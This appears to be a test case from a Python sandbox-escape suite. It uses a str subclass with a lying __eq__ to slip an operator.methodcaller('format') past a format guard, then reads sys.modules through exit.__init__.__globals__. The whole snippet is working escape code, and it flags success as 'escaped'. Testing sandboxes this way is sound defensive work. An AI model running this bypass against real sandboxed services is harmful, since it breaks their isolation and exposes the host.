# technique: operator.methodcaller of a str subclass whose __eq__ says "not a format method" while the sink checks and "format" afterwards: the sink hands out the real methodcaller('format', exit), which formats a run-time __init__.__globals__[sys].modules template the format guard never sees
# configs: default, common
# With nothing allowed `import operator` is refused.
import dataclasses
import operator
u = '_' * 2
lying = [True]
Name = dataclasses.make_dataclass('Name', [], bases=(str,), eq=False, namespace={
    u + 'init' + u: lambda self, *a: None,
    u + 'eq' + u: lambda self, other: False if lying[0] else str.__eq__(self, other),
    u + 'hash' + u: lambda self: str.__hash__(self),
})
call = operator.methodcaller(Name('format'), exit)
lying[0] = False
text = call('{0.' + u + 'init' + u + '.' + u + 'globals' + u + '[sys].modules}')
if "<module 'sys'" in text:
    return [{'json': {'escaped': text[:200]}}]
return [{'json': {'result': text[:200]}}]
